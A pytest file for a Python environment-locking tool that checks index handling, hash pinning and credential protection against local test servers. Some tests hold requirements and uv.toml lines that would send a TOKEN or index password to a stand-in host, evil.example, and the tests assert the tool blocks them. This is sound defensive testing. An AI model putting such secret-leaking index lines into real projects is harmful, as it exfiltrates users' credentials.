"""Locking and building from package indexes as people have them, each a server of its own on loopback."""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path

import pytest
from index_server import index_server
from wheelhouse import PYTHON, environ, sdist, wheel

from reprolock.environment.python.declared.requirement_line import IndexOption
from reprolock.environment.python.declared.requirements import read_declared
from reprolock.environment.python.indexes import Indexes, read_indexes
from reprolock.environment.python.installed.env_store import ensure
from reprolock.environment.python.resolving.lock import resolve
from reprolock.errors import ServiceError, UsageError
from reprolock.files.trusted import trust
from reprolock.model.lock import EnvironmentPin
from reprolock.model.spec import EnvironmentSpec


@pytest.fixture
def house(tmp_path: Path) -> Path:
    folder = tmp_path / "house"
    folder.mkdir()
    return folder


def variables(tmp_path: Path, **more: str) -> dict[str, str]:
    """Of a user without settings, whose uv has a cache of the test's own."""
    clean = environ(tmp_path, UV_CACHE_DIR=str(tmp_path / "uv"), HOME=str(tmp_path), XDG_CONFIG_HOME=str(tmp_path))
    return {name: value for name, value in clean.items() if name != "NETRC"} | more


def lock(tmp_path: Path, given: dict[str, str], *packages: str, **options) -> EnvironmentPin:
    spec = options.pop("spec", None) or EnvironmentSpec(packages=packages)
    return resolve(spec, tmp_path, python=PYTHON, environ=given, **options)


def sums(*files: Path) -> tuple[str, ...]:
    return tuple(sorted(hashlib.sha256(file.read_bytes()).hexdigest() for file in files))


@pytest.mark.parametrize(
    "hashes",
    [
        lambda name: None,
        lambda name: "md5",
        lambda name: "sha256" if name.endswith(".tar.gz") else None,
        lambda name: "sha256" if name.endswith(".tar.gz") else "md5",
    ],
    ids=["none", "md5", "sdist only", "sdist only, else md5"],
)
def test_files_without_a_sha256_are_fetched_and_hashed(tmp_path: Path, house: Path, hashes) -> None:
    files = [wheel(house, "tool"), wheel(house, "tool", tag=f"cp3{PYTHON[2:]}-none-win_amd64"), sdist(house, "tool")]
    with index_server(house, hashes) as index:
        given = variables(tmp_path, UV_DEFAULT_INDEX=index.url)
        remarks: list[str] = []
        found = lock(tmp_path, given, "tool", remark=remarks.append)
        assert ([pin.hashes for pin in found.package], remarks) == ([sums(*files)], [])
        built = ensure(found, tmp_path / "cache", environ=given)
        assert (built.packages / "tool.py").exists()


def test_a_file_that_cannot_be_fetched_is_said_and_not_pinned(tmp_path: Path, house: Path) -> None:
    file, broken = wheel(house, "tool"), house / "tool-1.0-py3-none-win_amd64.whl"
    broken.write_bytes(b"no archive")
    with index_server(house, lambda name: "md5") as index:
        remarks: list[str] = []
        found = lock(tmp_path, variables(tmp_path, UV_DEFAULT_INDEX=index.url), "tool", remark=remarks.append)
    assert found.package[0].hashes == sums(file)
    [remark] = remarks
    assert remark.startswith(
        f"{broken.name} is not pinned: the index gives no SHA-256 of it, and it cannot be fetched: "
    )


@pytest.mark.parametrize(
    ("hashes", "uploaded", "reason"),
    [
        (lambda name: "sha1", None, r"unsupported hash algorithm .* on: sha1=\w+"),
        (lambda name: "sha256", "yesterday", "failed to parse .*"),
    ],
    ids=["SHA-1", "a time that is none"],
)
def test_a_page_that_uv_cannot_read_is_the_indexs_fault(
    tmp_path: Path, house: Path, hashes, uploaded: str | None, reason: str
) -> None:
    wheel(house, "tool")
    with index_server(house, hashes, uploaded=uploaded) as index, pytest.raises(ServiceError) as caught:
        lock(tmp_path, variables(tmp_path, UV_DEFAULT_INDEX=index.url), "tool")
    assert re.fullmatch(
        rf"the package index at 127\.0\.0\.1:{index.server_port} gives a page that uv cannot read: {reason}",
        caught.value.message,
    )
    hint = "tell its owner, or name another index in uv's own settings (UV_DEFAULT_INDEX, UV_INDEX, uv.toml)"
    assert (caught.value.hint, caught.value.exit_code) == (hint, 5)


def test_a_file_that_is_named_and_not_there(tmp_path: Path, house: Path) -> None:
    """The server answers, so neither it nor the network is down."""
    wheel(house, "tool")
    with index_server(house) as index, pytest.raises(ServiceError) as caught:
        gone = f"http://127.0.0.1:{index.server_port}/files/gone-1.0-py3-none-any.whl?token=sekret#sha256={'0' * 64}"
        lock(tmp_path, variables(tmp_path, UV_DEFAULT_INDEX=index.url), "tool", f"gone @ {gone}")
    assert caught.value.message == (
        f"127.0.0.1:{index.server_port} answers 404 Not Found for gone-1.0-py3-none-any.whl"
    )
    assert caught.value.hint.startswith("try again, or name another index")
    assert caught.value.exit_code == 5


def test_as_of_needs_an_index_that_gives_upload_times(tmp_path: Path, house: Path) -> None:
    from datetime import UTC, datetime

    wheel(house, "tool")
    moment = datetime(2026, 1, 1, tzinfo=UTC)
    with index_server(house) as index, pytest.raises(UsageError) as caught:
        lock(tmp_path, variables(tmp_path, UV_DEFAULT_INDEX=index.url), "tool", as_of=moment)
    assert str(caught.value) == (
        "--as-of: the package index does not say when tool-1.0-py3-none-any.whl was uploaded, so what was there then is not known"
    )
    assert caught.value.hint == (
        "leave out --as-of and pin versions in [environment], or name an index that gives upload times (PEP 700) in UV_DEFAULT_INDEX"
    )
    with index_server(house, uploaded="2025-12-31T00:00:00Z") as index:
        given = variables(tmp_path, UV_DEFAULT_INDEX=index.url)
        assert lock(tmp_path, given, "tool", as_of=moment).package[0].version == "1.0"


@pytest.mark.parametrize("where", ["UV_CONFIG_FILE", "uv.toml", "pyproject.toml", "requirements", "UV_INDEX_URL"])
def test_the_index_is_found_where_people_name_it(tmp_path: Path, house: Path, where: str) -> None:
    wheel(house, "tool")
    given, spec, remarks = variables(tmp_path), EnvironmentSpec(packages=("tool",)), list[str]()
    with index_server(house, keys="me:s3cret") as index:
        address = index.url.replace("//", "//me:s3cret@")
        if where == "UV_CONFIG_FILE":
            (tmp_path / "mine.toml").write_text(f'[[index]]\nurl = "{address}"\ndefault = true\n')
            given[where] = str(tmp_path / "mine.toml")
        elif where == "uv.toml":
            (tmp_path / where).write_text(f'index-url = "{address}"\n')
        elif where == "pyproject.toml":
            (tmp_path / where).write_text(f'[tool.uv.pip]\nindex-url = "{address}"\n')
        elif where == "requirements":
            spec = EnvironmentSpec(requirements="r.txt")
            (tmp_path / "r.txt").write_text("--index-url http://${KEYS}@" + address.partition("@")[2] + "\ntool\n")
            given |= {"KEYS": "me:s3cret", "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
            trust(index.url, given)
        else:
            given[where] = address
        found = lock(tmp_path, given, spec=spec, remark=remarks.append)
        options = [IndexOption("r.txt:1", "--index-url", address)] if where == "requirements" else []
        ensure(found, tmp_path / "cache", environ=given, indexes=read_indexes(given, tmp_path, options))
    assert [pin.name for pin in found.package] == ["tool"]
    used = "r.txt:1: --index-url is used but not recorded: on another machine, set the index in UV_INDEX or uv.toml"
    assert remarks == ([used] if where == "requirements" else [])
    assert "s3cret" not in found.model_dump_json() and "127.0.0.1" not in found.model_dump_json()


def test_credentials_of_netrc_are_uvs_own_matter(tmp_path: Path, house: Path) -> None:
    wheel(house, "tool")
    with index_server(house, lambda name: "md5", keys="me:s3cret") as index:
        given = variables(tmp_path, UV_DEFAULT_INDEX=index.url)
        with pytest.raises(ServiceError) as caught:
            lock(tmp_path, given, "tool")
        assert caught.value.exit_code == 5
        (tmp_path / ".netrc").write_text("machine 127.0.0.1 login me password s3cret\n")
        found = lock(tmp_path, given, "tool")
        ensure(found, tmp_path / "cache", environ=given)
    assert "s3cret" not in found.model_dump_json()


def test_a_keyring_is_asked(tmp_path: Path, house: Path) -> None:
    wheel(house, "tool")
    program = tmp_path / "bin" / "keyring"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\necho s3cret\n")
    program.chmod(0o755)
    with index_server(house, keys="me:s3cret") as index:
        given = variables(tmp_path, UV_DEFAULT_INDEX=index.url.replace("//", "//me@"))
        given |= {"UV_KEYRING_PROVIDER": "subprocess", "PATH": f"{program.parent}{os.pathsep}{os.environ['PATH']}"}
        assert lock(tmp_path, given, "tool").package[0].name == "tool"


def test_a_package_with_an_index_of_its_own_comes_from_there(tmp_path: Path, house: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    wheel(house, "tool", needs=["helper"]), wheel(house, "helper")
    own, decoy = wheel(other, "tool", "0.9", needs=["helper"]), wheel(other, "helper", "9.0")
    with index_server(house) as common, index_server(other) as special:
        (tmp_path / "pyproject.toml").write_text(
            '[project]\nname = "p"\nversion = "1"\ndependencies = ["tool"]\n'
            '[tool.uv.sources]\ntool = { index = "special" }\n'
            f'[[tool.uv.index]]\nname = "special"\nurl = "{special.url}"\nexplicit = true\n'
        )
        given = variables(tmp_path, UV_DEFAULT_INDEX=common.url)
        found = lock(tmp_path, given, spec=EnvironmentSpec(pyproject="."))
        assert [(pin.name, pin.version) for pin in found.package] == [("helper", "1.0"), ("tool", "0.9")]
        assert found.package[1].hashes == sums(own) and decoy.exists()
        built = ensure(found, tmp_path / "cache", environ=given, indexes=read_indexes(given, tmp_path))
    assert [(item.name, item.version) for item in built.manifest.distribution] == [("helper", "1.0"), ("tool", "0.9")]


def test_another_index_of_the_same_package_is_another_declaration(tmp_path: Path, house: Path) -> None:
    """The version may be the same, and the files are not: a lock for the CPU would have stayed."""
    for name, text in (("cpu", "x = 'cpu'\n"), ("gpu", "x = 'gpu'\n")):
        (tmp_path / name).mkdir()
        wheel(tmp_path / name, "torch", text=text)
    tables = "".join(
        f'[[tool.uv.index]]\nname = "{name}"\nurl = "{tmp_path / name}"\nformat = "flat"\nexplicit = true\n'
        for name in ("cpu", "gpu")
    )
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "p"\n[project.optional-dependencies]\ncpu = ["torch"]\ngpu = ["torch"]\n[tool.uv]\n'
        'conflicts = [[{ extra = "cpu" }, { extra = "gpu" }]]\n[tool.uv.sources]\n'
        f'torch = [{{ index = "cpu", extra = "cpu" }}, {{ index = "gpu", extra = "gpu" }}]\n{tables}'
    )
    with index_server(house) as common:
        given = variables(tmp_path, UV_DEFAULT_INDEX=common.url)
        cpu = lock(tmp_path, given, spec=EnvironmentSpec(pyproject=".[cpu]"))
        gpu = lock(tmp_path, given, spec=EnvironmentSpec(pyproject=".[gpu]"), keep=cpu)
    name = "torch-1.0-py3-none-any.whl"
    assert (cpu.requirements, cpu.package[0].hashes) == (("torch", "--index torch cpu"), sums(tmp_path / "cpu" / name))
    assert (gpu.requirements, gpu.package[0].hashes) == (("torch", "--index torch gpu"), sums(tmp_path / "gpu" / name))


def test_settings_above_a_project_count_as_for_uv(tmp_path: Path) -> None:
    """Those of the repository that the project is a folder of, and those of its workspace; none of another repository."""
    app = tmp_path / "packages" / "app"
    app.mkdir(parents=True)
    (tmp_path / ".git").mkdir()
    (tmp_path / "uv.toml").write_text('find-links = ["wheels"]\n')
    found = {"find-links": [str(tmp_path / "wheels")]}
    assert read_indexes({}, app).settings == found
    (app / "pyproject.toml").write_text('[project]\nname = "app"\n')
    assert read_indexes({}, app).settings == found
    (app / "pyproject.toml").write_text('[[tool.uv.index]]\nname = "own"\nurl = "https://own.example"\n')
    own = [{"name": "own", "url": "https://own.example"}]
    assert read_indexes({}, app).settings == {"index": own}
    (tmp_path / "pyproject.toml").write_text('[tool.uv.workspace]\nmembers = ["packages/*"]\n')
    assert read_indexes({}, app).settings == {"index": own} | found
    (app / ".git").mkdir()
    assert read_indexes({}, app).settings == {"index": own}


def test_credentials_are_taken_out_of_addresses(tmp_path: Path) -> None:
    (tmp_path / "uv.toml").write_text(
        'extra-index-url = ["https://me:p%40ss@a.example/simple"]\nfind-links = ["wheels", "https://me@b.example/w"]\n'
        '[[index]]\nname = "my-corp"\nurl = "https://you:key@c.example/simple"\n[[index]]\nurl = "local"\nformat = "flat"\n'
    )
    given = {"UV_CONSTRAINT": "c.txt"}
    assert read_indexes(given, tmp_path) == Indexes(
        settings={
            "index": [
                {"name": "my-corp", "url": "https://c.example/simple"},
                {"url": str(tmp_path / "local"), "format": "flat"},
                {"url": "https://a.example/simple", "name": "reprolock-2"},
            ],
            "find-links": [str(tmp_path / "wheels")],
        },
        variables={
            "UV_INDEX_MY_CORP_USERNAME": "you",
            "UV_INDEX_MY_CORP_PASSWORD": "key",
            "UV_INDEX_REPROLOCK_2_USERNAME": "me",
            "UV_INDEX_REPROLOCK_2_PASSWORD": "p@ss",
            "UV_FIND_LINKS": "https://me@b.example/w",
        },
        remarks=("UV_CONSTRAINT is set but ignored: what decides versions must be in repro.toml",),
    )


def test_a_settings_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(UsageError) as caught:
        read_indexes({"UV_CONFIG_FILE": "/nowhere/uv.toml"}, tmp_path)
    assert str(caught.value) == "UV_CONFIG_FILE names /nowhere/uv.toml, which is not there"
    assert caught.value.hint == "correct UV_CONFIG_FILE, or unset it"


def test_credentials_go_to_no_address_that_a_project_alone_names(tmp_path: Path) -> None:
    (tmp_path / "uv.toml").write_text('[[index]]\nname = "corp"\nurl = "https://evil.example/simple"\n')
    given = {"UV_INDEX_CORP_PASSWORD": "s3cret", "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
    with pytest.raises(UsageError) as caught:
        read_indexes(given, tmp_path)
    assert str(caught.value) == (
        "UV_INDEX_CORP_PASSWORD would be sent to https://evil.example, which only this project's settings declare as the index corp"
    )
    assert caught.value.hint == "`reprolock trust https://evil.example` confirms that address, once"
    assert read_indexes({**given, "UV_INDEX": "corp=https://evil.example/simple"}, tmp_path).settings
    trust("https://evil.example", given)
    assert read_indexes(given, tmp_path).settings


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ('[[pip.index]]\nname = "corp"\nurl = "https://evil.example/simple"\n', "https://evil.example"),
        ('[[index]]\nname = "corp"\nurl = "https:///evil.example/simple"\n', "https:///evil.example/simple"),
        ('[[index]]\nname = "corp"\nurl = "https://evil.example:x/simple"\n', "https://evil.example:x/simple"),
    ],
)
def test_nor_to_one_that_it_names_otherwise(tmp_path: Path, text: str, where: str) -> None:
    (tmp_path / "uv.toml").write_text(text)
    with pytest.raises(UsageError) as caught:
        read_indexes({"UV_INDEX_CORP_PASSWORD": "s3cret", "REPROLOCK_CONFIG_DIR": str(tmp_path)}, tmp_path)
    assert str(caught.value) == (
        f"UV_INDEX_CORP_PASSWORD would be sent to {where}, which only this project's settings declare as the index corp"
    )


@pytest.mark.parametrize("host", ["pypi.corp.example", "pypi.corp.example:443", "https://pypi.corp.example"])
@pytest.mark.parametrize("named", ["a variable", "netrc", "trust"])
def test_a_project_turns_off_no_check_of_a_server_that_its_user_named(tmp_path: Path, named: str, host: str) -> None:
    """Whoever stands between this machine and the index would be sent the user's credentials."""
    given = {"HOME": str(tmp_path), "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
    if named == "a variable":
        given["UV_DEFAULT_INDEX"] = "https://ann:s3cret@pypi.corp.example/simple"
    elif named == "netrc":
        (tmp_path / ".netrc").write_text("machine pypi.corp.example login ann password s3cret\n")
    else:
        trust("https://pypi.corp.example", given)
    told = "turns off the check of who pypi.corp.example is, which your own settings name"
    (tmp_path / "uv.toml").write_text(f'allow-insecure-host = ["{host}"]\n')
    with pytest.raises(UsageError) as caught:
        read_indexes(given, tmp_path)
    assert str(caught.value) == f"uv's allow-insecure-host in {tmp_path.name} {told}"
    assert caught.value.hint == "take it out; if that is your wish, say so yourself, by UV_INSECURE_HOST"
    assert read_indexes({**given, "UV_INSECURE_HOST": "pypi.corp.example"}, tmp_path).settings
    option = IndexOption("r.txt:1", "--trusted-host", host)
    with pytest.raises(UsageError) as caught:
        read_indexes(given, None, [option])
    assert str(caught.value) == f"r.txt:1: --trusted-host {told}"
    (tmp_path / "uv.toml").write_text('allow-insecure-host = ["another.example"]\n')
    assert read_indexes(given, tmp_path).settings == {"allow-insecure-host": ["another.example"]}


def test_an_address_with_half_of_a_bracket(tmp_path: Path) -> None:
    (tmp_path / "uv.toml").write_text('index-url = "https://ann:pw@[host/simple"\n')
    with pytest.raises(UsageError) as caught:
        read_indexes({}, tmp_path)
    assert str(caught.value) == '"https://[host/simple" is not the address of a package index'


def test_no_variable_is_sent_to_an_address_that_a_requirements_file_names(tmp_path: Path) -> None:
    spec = EnvironmentSpec(requirements="r.txt")
    given = {"TOKEN": "s3cret", "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
    for line in (
        "--extra-index-url https://${TOKEN}@evil.example/simple",
        "six @ https://evil.example/${TOKEN}/six.whl",
    ):
        (tmp_path / "r.txt").write_text(f"{line}\n")
        with pytest.raises(UsageError) as caught:
            read_declared(spec, tmp_path, given)
        assert str(caught.value) == (
            "r.txt:1: the value of TOKEN would be sent to https://evil.example, which only this file names"
        )
    (tmp_path / "r.txt").write_text("--extra-index-url ${MINE}\n")
    found = read_declared(spec, tmp_path, given | {"MINE": "https://mine.example/simple"})
    assert found.index_options == (IndexOption("r.txt:1", "--extra-index-url", "https://mine.example/simple"),)


def test_settings_that_uv_cannot_read_are_not_left_out(tmp_path: Path, house: Path) -> None:
    """uv warns and goes on without any of them: packages would come from another index than the project names."""
    wheel(house, "tool")
    with index_server(house) as index:
        text = f"[tool.uv]\nno-index = 'x'\n[[tool.uv.index]]\nurl = '{index.url}'\n"
        (tmp_path / "pyproject.toml").write_text(text)
        with pytest.raises(UsageError) as caught:
            lock(tmp_path, variables(tmp_path), "tool")
    assert str(caught.value) == (
        'uv does not understand "no-index = "x"" among the settings that say where packages come from'
    )


def test_what_a_project_tells_uv_of_versions_is_not_honoured_and_said(tmp_path: Path, house: Path) -> None:
    for version in ("1.0", "2.0"):
        wheel(house, "tool", version)
    with index_server(house) as index:
        (tmp_path / "pyproject.toml").write_text("[tool.uv]\nresolution = 'lowest'\nprerelease = 'allow'\n")
        remarks: list[str] = []
        given = variables(tmp_path, UV_DEFAULT_INDEX=index.url)
        found = lock(tmp_path, given, "tool[fast]", remark=remarks.append)
    assert [pin.version for pin in found.package] == ["2.0"]
    assert remarks == [
        "uv's setting resolution is ignored: what decides versions must be in repro.toml",
        "uv's setting prerelease is ignored: what decides versions must be in repro.toml",
        "The package tool 2.0 does not have an extra named fast",
    ]


def test_an_index_that_only_pip_is_told_of_is_said_not_to_be_read(tmp_path: Path) -> None:
    """Packages that only such an index has are not found, and nothing else would say why."""
    given = {"PIP_INDEX_URL": "https://ann:secret@pip.example/simple", "PIP_EXTRA_INDEX_URL": "https://more.example"}
    assert read_indexes(given, tmp_path).remarks == (
        "PIP_INDEX_URL is set and not read: packages come from where UV_DEFAULT_INDEX or uv.toml says",
        "PIP_EXTRA_INDEX_URL is set and not read: packages come from where UV_INDEX or uv.toml says",
    )
    assert read_indexes({**given, "UV_DEFAULT_INDEX": "https://pip.example/simple"}, tmp_path).remarks == ()
    settings = tmp_path / "home" / ".config" / "uv" / "uv.toml"
    settings.parent.mkdir(parents=True)
    settings.write_text('index-url = "https://pip.example/simple"\n')
    assert read_indexes({**given, "HOME": str(tmp_path / "home")}, tmp_path).remarks == ()
    file = tmp_path / "pip.conf"
    file.write_text("[global]\nindex_url = https://ann:secret@pip.example/simple\n[install]\nno-compile = no\n")
    sentence = f"{file} sets index-url and is not read: packages come from where UV_DEFAULT_INDEX or uv.toml says"
    assert sentence in read_indexes({"PIP_CONFIG_FILE": str(file)}, tmp_path).remarks
    assert read_indexes({"PIP_CONFIG_FILE": os.devnull}, tmp_path).remarks == ()
    (tmp_path / "uv.toml").write_text('[[index]]\nurl = "https://pip.example/simple"\n')
    assert read_indexes(given, tmp_path).remarks == ()
